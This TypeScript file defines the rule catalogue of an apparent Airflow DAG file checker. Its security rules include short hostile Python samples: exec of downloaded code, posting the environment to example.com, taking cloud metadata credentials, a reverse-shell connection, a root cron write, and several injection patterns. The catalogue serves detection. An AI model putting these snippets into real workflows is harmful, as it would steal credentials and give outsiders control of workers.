/** How bad a finding is: `critical` and `error` keep a file back, `warning` and `info` do not. */
export type Severity = 'critical' | 'error' | 'warning' | 'info';

/** What a rule is about; only what practice and dependencies say can be waived in the file. */
export type RuleGroup = 'syntax' | 'compatibility' | 'structure' | 'practice' | 'security' | 'dependencies';

/** Something a file is checked for. */
export interface Rule {
  readonly group: RuleGroup;
  readonly severity: Severity;
  readonly title: string;
  readonly why: string;
  readonly fix?: string;
  /** The one file it is about, where that is not Python. */
  readonly file?: 'requirements.txt';
  /** A source that breaks the rule. */
  readonly bad?: string;
  /** One that looks alike and does not. */
  readonly good?: string;
}

const security = { group: 'security', severity: 'critical' } as const;
const practice = { group: 'practice', severity: 'warning' } as const;
/** Found in requirements.txt rather than in Python. */
const requirement = { group: 'dependencies', severity: 'warning', file: 'requirements.txt' } as const;

/** To be raised where a rule finds more than before, or a check holds more, so that files are looked at again. */
export const rulesVersion = 1;

/** Every rule of ours; those of ruff (`AIR…`, `S…`) have pages of their own. */
export const rules = {
  'syntax-error': {
    group: 'syntax',
    severity: 'error',
    title: 'Not Python of the environment’s version',
    why: 'Airflow cannot import the file, so none of its DAGs would exist.',
    bad: 'x = (\n',
    good: 'x = ()\n',
  },
  'null-byte': {
    group: 'syntax',
    severity: 'error',
    title: 'Null byte in the source',
    why: 'Python refuses to read such a file.',
    fix: 'Save the file as UTF-8 text.',
    bad: 'x = 1\n\0',
    good: 'x = 1\n',
  },
  encoding: {
    group: 'syntax',
    severity: 'error',
    title: 'Text that cannot be decoded',
    why: 'Python reads source as UTF-8 unless its first lines say otherwise, and stops at what is not.',
    fix: 'Save the file as UTF-8.',
    bad: '# coding: ascii\nx = "é"\n',
    good: 'x = "é"\n',
  },
  'too-complex': {
    group: 'syntax',
    severity: 'warning',
    title: 'Too complex to be read whole',
    why: 'What the checks cannot follow they cannot vouch for.',
    fix: 'Split the file, or move its data into a file beside it.',
  },
  'file-size': {
    group: 'structure',
    severity: 'error',
    title: 'File too large',
    why: 'Airflow reads every DAG file again and again; large ones hold up all others.',
    fix: 'Move its data into files beside it, or split it.',
  },
  'removed-import': {
    group: 'compatibility',
    severity: 'error',
    title: 'Import of what Airflow 3 has removed',
    why: 'The import fails, and with it the file.',
    bad: 'from airflow.operators.bash_operator import BashOperator\n',
    good: 'from airflow.providers.standard.operators.bash import BashOperator\n',
  },
  'removed-argument': {
    group: 'compatibility',
    severity: 'error',
    title: 'Argument that Airflow 3 has removed',
    why: 'Airflow refuses the call, so the file fails to import.',
    bad: 'from airflow.sdk import DAG\n\nDAG("a", schedule_interval="@daily")\n',
    good: 'from airflow.sdk import DAG\n\nDAG("a", schedule="@daily")\n',
  },
  'dag-id-taken': {
    group: 'structure',
    severity: 'error',
    title: 'DAG id used twice',
    why: 'A DAG id is unique in an Airflow environment, which shows whichever file it parsed last. Whoever has it keeps it.',
    fix: 'Choose another dag_id.',
  },
  'broken-import': {
    group: 'structure',
    severity: 'error',
    title: 'Import of a file that is kept back',
    why: 'The file would fail, or run what was kept back.',
  },
  held: {
    group: 'structure',
    severity: 'info',
    title: 'Kept at another version',
    why: 'Somebody rolled it back or pinned it, so what is in Git is not what runs.',
  },
  'airflow-import': {
    group: 'structure',
    severity: 'error',
    title: 'Airflow could not import the file',
    why: 'None of its DAGs would exist; the version before stays live.',
  },
  'airflow-pause': {
    group: 'structure',
    severity: 'warning',
    title: 'Airflow did not change the pause switch',
    why: 'The workflow is live, but not paused or unpaused as its repository asks for.',
    fix: 'Set it in Airflow.',
  },
  'downloaded-code': {
    ...security,
    title: 'Downloaded code is run',
    why: 'Whoever controls that address, or the way to it, runs what they like with the rights of your workers.',
    fix: 'Put the code into the repository or a pinned package; or compare it with a digest that stands in the source first.',
    bad: 'import requests\n\ndef load():\n    exec(requests.get("https://example.com/setup.py").text)\n',
    good: 'import requests\n\ndef load():\n    return requests.get("https://example.com/prices.json").json()\n',
  },
  'obfuscated-code': {
    ...security,
    title: 'Hidden code',
    why: 'Code that hides what it does cannot be reviewed, and workflows have no reason to hide it.',
    fix: 'Write in plain text what is to be run.',
    bad: 'import base64\n\ndef run():\n    exec(base64.b64decode("cHJpbnQoMSk="))\n',
    good: 'import base64\n\ndef read(logo: str):\n    return base64.b64decode("iVBORw0KGgo=")\n',
  },
  'credentials-sent-out': {
    ...security,
    title: 'Credentials are sent out',
    why: 'Whoever receives them can do what the workers can, long after the run has ended.',
    fix: 'Send what the receiver needs, never the environment or a connection; sign in with the Authorization header.',
    bad: 'import os\nimport requests\n\ndef report():\n    requests.post("https://example.com/x", json=dict(os.environ))\n',
    good: 'import os\nimport requests\n\ndef report():\n    requests.post("https://example.com/x", json={"region": os.environ["REGION"]})\n',
  },
  'metadata-credentials': {
    ...security,
    title: 'Credentials of the machine are taken',
    why: 'The role of the worker is for all its workflows; whoever copies its credentials has every right of every one.',
    fix: 'Use an Airflow connection, or the AWS SDK, which asks by itself.',
    bad: 'import requests\n\ndef take():\n    return requests.get("http://169.254.169.254/latest/meta-data/iam/security-credentials/worker").json()\n',
    good: 'import requests\n\ndef place():\n    return requests.get("http://169.254.169.254/latest/meta-data/placement/region").text\n',
  },
  'reverse-shell': {
    ...security,
    title: 'A shell for somebody else',
    why: 'Somebody outside gets a terminal on the worker.',
    fix: 'Remove it. To debug a worker, use the environment’s own tools.',
    bad: 'import os, socket\n\ndef debug():\n    s = socket.create_connection(("example.com", 4444))\n    os.dup2(s.fileno(), 0)\n',
    good: 'import socket\n\ndef check():\n    with socket.create_connection(("example.com", 443), timeout=3):\n        return True\n',
  },
  'write-outside': {
    ...security,
    title: 'Writing outside the task’s own folders',
    why: 'Files of the system, of the account or of an unknown place change what others run.',
    fix: 'Write to a temporary folder or to object storage; take only the last part of a name that comes from outside.',
    bad: 'def install():\n    with open("/etc/cron.d/job", "w") as file:\n        file.write("* * * * * root /x")\n',
    good: 'import tempfile\n\ndef save():\n    with open(tempfile.mkdtemp() + "/job", "w") as file:\n        file.write("x")\n',
  },
  'other-dags-changed': {
    ...security,
    title: 'Other workflows’ files are changed',
    why: 'Airflow runs whatever is in that folder, so this is a way past every review.',
    fix: 'Push workflows to a repository.',
    bad: 'def spread():\n    with open("/opt/airflow/dags/other.py", "a") as file:\n        file.write("x = 1")\n',
    good: 'from pathlib import Path\n\ndef read():\n    return (Path(__file__).parent / "query.sql").read_text()\n',
  },
  'airflow-tampering': {
    ...security,
    title: 'Airflow itself is changed',
    why: 'Airflow’s database and code decide what runs for everybody; a task has no business in them.',
    fix: 'Use Airflow’s operators and Navigator’s own operations, which ask who is asking.',
    bad: 'from airflow.settings import Session\nfrom airflow.models import DagModel\n\ndef stop():\n    session = Session()\n    session.query(DagModel).delete()\n',
    good: 'from airflow.sdk import Variable\n\ndef remember(day):\n    Variable.set("sales_watermark", day)\n',
  },
  'shell-injection': {
    ...security,
    title: 'A command from a run’s configuration',
    why: 'Whoever may trigger the workflow may then run any command on the worker.',
    fix: 'Pass the value by `env`, or as an element of a list without a shell; or allow only certain values.',
    bad: 'from airflow.providers.standard.operators.bash import BashOperator\n\nBashOperator(task_id="a", bash_command="cat {{ dag_run.conf[\'file\'] }}")\n',
    good: 'from airflow.providers.standard.operators.bash import BashOperator\n\nBashOperator(task_id="a", bash_command=\'cat "$FILE"\', env={"FILE": "{{ dag_run.conf[\'file\'] }}"})\n',
  },
  'sql-injection': {
    ...security,
    title: 'A query from a run’s configuration',
    why: 'Whoever may trigger the workflow may then read and change anything the connection can.',
    fix: 'Pass values by `parameters`; allow only certain names.',
    bad: 'from airflow.providers.postgres.hooks.postgres import PostgresHook\n\ndef load(**context):\n    PostgresHook("dwh").run(f"DELETE FROM {context[\'params\'][\'table\']}")\n',
    good: 'from airflow.providers.postgres.hooks.postgres import PostgresHook\n\ndef load(**context):\n    PostgresHook("dwh").run("DELETE FROM a WHERE d = %s", parameters=[context["params"]["day"]])\n',
  },
  'code-injection': {
    ...security,
    title: 'Code from a run’s configuration',
    why: 'Whoever may trigger the workflow may then run any code on the worker.',
    fix: 'Choose from a dictionary of what is allowed.',
    bad: 'def compute(**context):\n    return eval(context["dag_run"].conf["formula"])\n',
    good: 'import ast\n\ndef compute(**context):\n    return ast.literal_eval(context["dag_run"].conf["limits"])\n',
  },
  'template-injection': {
    ...security,
    title: 'A template from a run’s configuration',
    why: 'A template can reach any object in memory, and so run code.',
    fix: 'Keep the template in the source and pass values to it.',
    bad: 'from jinja2 import Template\n\ndef write(**context):\n    return Template(context["params"]["text"]).render()\n',
    good: 'from jinja2 import Template\n\ndef write(**context):\n    return Template("Hello {{ name }}").render(name=context["params"]["name"])\n',
  },
  'hard-coded-secret': {
    ...security,
    title: 'A secret in the source',
    why: 'Everybody who can read the repository, and its history for ever, can use it.',
    fix: 'Keep it in an Airflow connection or a secrets manager, and replace it: it is known now.',
    bad: 'PASSWORD = "g7#Kq2vP9x"\n',
    good: 'import os\n\nPASSWORD = os.environ["WAREHOUSE_PASSWORD"]\n',
  },
  'unsafe-deserialisation': {
    ...security,
    title: 'Objects out of others’ data',
    why: 'Such data can name any function to be called while it is read.',
    fix: 'Use JSON, Parquet or `yaml.safe_load`; or check a signature first.',
    bad: 'import pickle\nimport requests\n\ndef load():\n    return pickle.loads(requests.get("https://example.com/model").content)\n',
    good: 'import json\nimport requests\n\ndef load():\n    return json.loads(requests.get("https://example.com/model").content)\n',
  },
  'tls-disabled': {
    ...security,
    title: 'TLS without checking who answers',
    why: 'Anybody on the way can read and change what is sent, credentials too.',
    fix: 'Give the path of your own CA instead of switching the check off.',
    bad: 'import requests\n\ndef ask():\n    return requests.get("https://example.com", verify=False)\n',
    good: 'import requests\n\ndef ask():\n    return requests.get("https://example.com", verify="/etc/ssl/company-ca.pem")\n',
  },
  'import-network': {
    ...security,
    title: 'Network at import',
    why: 'Airflow reads the file every few seconds, on the scheduler’s side, outside any task, log or time limit.',
    fix: 'Move it into a task.',
    bad: 'import requests\n\nTABLES = requests.get("https://example.com/tables").json()\n',
    good: 'import requests\n\ndef tables():\n    return requests.get("https://example.com/tables").json()\n',
  },
  'import-process': {
    ...security,
    title: 'Process at import',
    why: 'Airflow reads the file every few seconds, on the scheduler’s side, outside any task, log or time limit.',
    fix: 'Move it into a task.',
    bad: 'import subprocess\n\nsubprocess.run(["make", "config"])\n',
    good: 'import subprocess\n\ndef configure():\n    subprocess.run(["make", "config"])\n',
  },
  'import-write': {
    ...security,
    title: 'Writing at import',
    why: 'Airflow reads the file every few seconds, in several processes at once.',
    fix: 'Move it into a task.',
    bad: 'open("/tmp/marker", "w").write("x")\n',
    good: 'from pathlib import Path\n\nQUERY = (Path(__file__).parent / "q.sql").read_text()\n',
  },
  'import-background': {
    ...security,
    title: 'The importing process is changed',
    why: 'Threads, children and handlers outlive the reading of the file and act on every other one.',
    fix: 'Move it into a task.',
    bad: 'import threading\n\nthreading.Thread(target=print).start()\n',
    good: 'import threading\n\ndef work():\n    threading.Thread(target=print).start()\n',
  },
  'import-blocks': {
    ...security,
    title: 'Waiting at import',
    why: 'While one file waits, Airflow reads no other.',
    fix: 'Move it into a task, or use a sensor.',
    bad: 'import time\n\ntime.sleep(60)\n',
    good: 'import time\n\ndef wait():\n    time.sleep(60)\n',
  },
  'foreign-packages': {
    ...security,
    title: 'Packages from elsewhere',
    why: 'What is installed at run time is code that nobody reviewed, and it stays for every workflow of the worker.',
    fix: 'Ask for the package in the environment, or use a virtual environment task with pinned versions.',
    bad: 'import subprocess\n\ndef prepare():\n    subprocess.run(["pip", "install", "--index-url", "https://packages.example/simple", "tools"])\n',
    good: 'from airflow.sdk import task\n\n@task.virtualenv(requirements=["pandas==2.2.3"])\ndef prepare():\n    import pandas\n',
  },
  'misspelt-package': {
    ...security,
    title: 'A package that is taken for another',
    why: 'Names one slip away from a well-known one are registered to be installed by mistake.',
    fix: 'Write the name of the package you mean.',
    bad: 'from airflow.sdk import task\n\n@task.virtualenv(requirements=["reqeusts==2.32.3"])\ndef ask():\n    pass\n',
    good: 'from airflow.sdk import task\n\n@task.virtualenv(requirements=["requests==2.32.3"])\ndef ask():\n    pass\n',
  },
  'malicious-package': {
    ...security,
    title: 'A package known to do harm',
    why: 'It was published to steal or destroy, and does so while it is installed.',
    fix: 'Take it out, and look for where it has been installed already.',
    bad: 'from airflow.sdk import task\n\n@task.virtualenv(requirements=["acme-stealer==1.0.0"])\ndef load():\n    pass\n',
    good: 'from airflow.sdk import task\n\n@task.virtualenv(requirements=["pandas==2.2.3"])\ndef load():\n    pass\n',
  },
  'unsafe-package': {
    ...security,
    severity: 'warning',
    title: 'A package with a known weakness',
    why: 'Whoever knows the weakness may use it against the data that the task reads.',
    fix: 'Take a version without it.',
    bad: 'from airflow.sdk import task\n\n@task.virtualenv(requirements=["acme-parser==1.4"])\ndef load():\n    pass\n',
    good: 'from airflow.sdk import task\n\n@task.virtualenv(requirements=["acme-parser==1.5"])\ndef load():\n    pass\n',
  },
  'no-retries': {
    ...practice,
    severity: 'info',
    title: 'No retries',
    why: 'A lost connection fails the run, and somebody is woken up for what a second attempt would have done.',
    fix: 'Set `retries` in `default_args`.',
    bad: 'from airflow.sdk import DAG\n\nwith DAG("a", schedule=None, catchup=False, dagrun_timeout=1):\n    pass\n',
    good: 'from airflow.sdk import DAG\n\nwith DAG("a", schedule=None, catchup=False, dagrun_timeout=1, default_args={"retries": 2}):\n    pass\n',
  },
  'no-timeout': {
    ...practice,
    severity: 'info',
    title: 'No time limit',
    why: 'A task that hangs keeps its slot, and the next run waits behind it.',
    fix: 'Set `dagrun_timeout`, or `execution_timeout` in `default_args`.',
    bad: 'from airflow.sdk import DAG\n\nwith DAG("a", schedule=None, catchup=False, default_args={"retries": 2}):\n    pass\n',
    good: 'from airflow.sdk import DAG\n\nwith DAG("a", schedule=None, catchup=False, dagrun_timeout=1, default_args={"retries": 2}):\n    pass\n',
  },
  'catchup-unsaid': {
    ...practice,
    severity: 'info',
    title: '`catchup` is not said',
    why: 'Its default changed with Airflow 3 and is a setting of the environment: missed runs are made up for, or not.',
    fix: 'Say `catchup=False` or `catchup=True`.',
    bad: 'from airflow.sdk import DAG\n\nDAG("a", schedule="@daily", dagrun_timeout=1, default_args={"retries": 2})\n',
    good: 'from airflow.sdk import DAG\n\nDAG("a", schedule="@daily", catchup=False, dagrun_timeout=1, default_args={"retries": 2})\n',
  },
  'moving-start-date': {
    ...practice,
    title: 'A start date that moves',
    why: 'It is another one each time the file is read, so runs come late, twice or never.',
    fix: 'Write a fixed date.',
    bad: 'from datetime import datetime\nfrom airflow.sdk import DAG\n\nDAG("a", start_date=datetime.now())\n',
    good: 'from datetime import datetime\nfrom airflow.sdk import DAG\n\nDAG("a", start_date=datetime(2026, 1, 1))\n',
  },
  'settings-at-import': {
    ...practice,
    title: 'Variable or connection at import',
    why: 'Each reading of the file asks Airflow’s database or the secrets backend, every few seconds.',
    fix: 'Ask within a task, or use a template: `{{ var.value.name }}`.',
    bad: 'from airflow.sdk import Variable\n\nBUCKET = Variable.get("bucket")\n',
    good: 'from airflow.sdk import Variable\n\ndef bucket():\n    return Variable.get("bucket")\n',
  },
  'heavy-import': {
    ...practice,
    severity: 'info',
    title: 'A heavy import at the top',
    why: 'It takes a second or more, whenever Airflow reads the file and before each task.',
    fix: 'Import it within the task that needs it.',
    bad: 'from airflow.sdk import dag\nimport pandas\n',
    good: 'from airflow.sdk import dag, task\n\n@task\ndef load():\n    import pandas\n',
  },
  'not-repeatable': {
    ...practice,
    severity: 'info',
    title: 'A second attempt would do it twice',
    why: 'Airflow repeats tasks; rows that are only ever added are then there twice.',
    fix: 'Delete what the run wrote before, or use MERGE or ON CONFLICT.',
    bad: 'from airflow.providers.postgres.hooks.postgres import PostgresHook\n\ndef load():\n    PostgresHook("dwh").run("INSERT INTO sales SELECT * FROM staging")\n',
    good: 'from airflow.providers.postgres.hooks.postgres import PostgresHook\n\ndef load():\n    PostgresHook("dwh").run("INSERT INTO sales SELECT * FROM staging ON CONFLICT DO NOTHING")\n',
  },
  'package-missing': {
    group: 'dependencies',
    severity: 'warning',
    title: 'An import that the environment may not have',
    why: 'Where the package is missing, Airflow cannot import the file.',
    fix: 'Add it to requirements.txt and to the environment, or import it in a `@task.virtualenv`.',
    bad: 'import polars\n',
    good: 'try:\n    import polars\nexcept ImportError:\n    polars = None\n',
  },
  'requirement-unpinned': {
    ...requirement,
    title: 'A requirement without a version',
    why: 'Tomorrow’s installation is another one than today’s.',
    fix: 'Pin it: `name==1.2.3`.',
    bad: 'pandas>=2\n',
    good: 'pandas==2.2.3\n',
  },
  'requirement-foreign': {
    ...requirement,
    title: 'A requirement from elsewhere',
    why: 'An address or another index gives whoever controls it the right to run code.',
    fix: 'Name a package of the index that your environment trusts.',
    bad: 'git+https://git.example/tools.git\n',
    good: 'acme-tools==1.0.0\n',
  },
  'requirement-misspelt': {
    ...requirement,
    title: 'A requirement that is taken for another',
    why: 'Names one slip away from a well-known one are registered to be installed by mistake.',
    fix: 'Write the name of the package you mean.',
    bad: 'reqeusts==2.32.3\n',
    good: 'requests==2.32.3\n',
  },
  'requirement-unsafe': {
    ...requirement,
    title: 'A requirement known to be unsafe',
    why: 'An advisory names this version: it has a weakness, or was published to do harm.',
    fix: 'Take a version without it, or another package.',
    bad: 'acme-parser==1.4\n',
    good: 'acme-parser==1.5\n',
  },
  'waiver-refused': {
    group: 'structure',
    severity: 'warning',
    title: 'A waiver that does not count',
    why: 'A waiver needs the name of a rule and a reason, and only rules of practice and dependencies can be waived in the file.',
    fix: 'Write `# navigator: allow RULE because REASON` on the line or the one above.',
  },
} as const satisfies Readonly<Record<string, Rule>>;

export type RuleId = keyof typeof rules;

/** A rule by its name. */
export const ruleOf = (id: RuleId): Rule => rules[id];
